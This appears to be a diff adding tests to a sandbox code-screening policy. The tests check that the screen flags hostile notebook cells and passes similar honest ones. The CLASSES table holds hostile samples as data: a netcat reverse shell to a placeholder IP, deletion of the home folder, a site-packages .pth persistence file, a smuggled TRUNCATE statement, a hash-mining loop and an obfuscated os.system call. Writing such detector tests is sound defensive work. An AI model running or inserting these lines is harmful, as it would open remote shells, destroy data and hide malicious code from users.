@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from sandbox_kernel.policy.screen import Screen
-from tests.support.screen import attacks, honest, is_held_out
+from tests.support.screen import attacks, honest, is_held_out, reviewed
 
 FAMILIES = sorted({family for family, _ in attacks()})
 THRESHOLD = 60
@@ -41,6 +41,63 @@ def test_no_honest_cell_is_blocked_and_few_are_warned_of() -> None:
     screens = {cell: Screen().look(cell) for _, cell in honest()}
     assert [cell for cell, one in screens.items() if one.score >= THRESHOLD] == []
     assert sum(bool(one.findings) for one in screens.values()) / len(screens) < 0.25
+
+
+def test_what_a_reviewer_wrote_is_found_and_none_of_the_honest_cells_is_blocked() -> None:
+    noticed, blocked = found(list(reviewed("risky")))
+    assert len(reviewed("risky")) == 61
+    assert noticed == 1
+    assert blocked >= 0.7
+    noticed, blocked = found(list(reviewed("honest")))
+    assert len(reviewed("honest")) == 47
+    assert noticed < 0.3
+    assert blocked == 0
+
+
+CLASSES = {
+    "a shell behind a connection": (
+        "file-delete",
+        "!ls -e /bin/sh",
+        "process-reverse-shell",
+        "!nc -e /bin/sh 192.0.2.1 9",
+    ),
+    "all files that are found": (
+        *("file-delete-many", "import glob, os\nfor f in glob.glob('frame_*.png'):\n    os.remove(f)"),
+        *("file-delete-many", "from pathlib import Path\nfor f in Path('in').rglob('*'):\n    f.unlink()"),
+    ),
+    "without a loop": (
+        *("file-delete-many", "import glob, os\nlist(map(os.remove, glob.glob('frame_*.png')))"),
+        *("file-delete-many", "import glob, os\nlist(map(os.remove, glob.glob('*.csv')))"),
+    ),
+    "a home folder by its function": (
+        *("file-delete-system", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.cwd() / 'out')"),
+        *("file-delete-system", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())"),
+    ),
+    "packages by their function": (
+        *("persist-startup", "import site\nprint(site.getsitepackages())"),
+        *("persist-startup", "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w')"),
+    ),
+    "a table that is emptied among other statements": (
+        *("data-drop", "pd.read_sql('SELECT trunc(a) FROM t', c)"),
+        *("data-drop", "pd.read_sql('TRUNCATE TABLE t; SELECT 1', c)"),
+    ),
+    "a hash of a hash": (
+        *("miner-loop", "import hashlib\nh = hashlib.sha256()\nfor part in parts:\n    h.update(part)"),
+        *("miner-loop", "import hashlib\nwhile x:\n    y = hashlib.sha256(hashlib.sha256(x).digest()).digest()"),
+    ),
+    "a name of a package for data": (
+        *("hidden-name", "import numpy as np\ngetattr(np, 'float' + '32')"),
+        *("hidden-name", "import numpy as np\ngetattr(np, 'o' + 's').system('id')"),
+    ),
+}
+
+
+@pytest.mark.parametrize("name", CLASSES)
+def test_a_class_of_attacks_is_told_from_honest_work_that_looks_like_it(name: str) -> None:
+    absent, honest_cell, code, attack = CLASSES[name]
+    assert absent not in [one.code for one in Screen().look(honest_cell).findings]
+    assert code in [one.code for one in Screen().look(attack).findings]
+    assert Screen().look(honest_cell).score < THRESHOLD
 
 
 def test_control_without_rules_nothing_is_found() -> None:
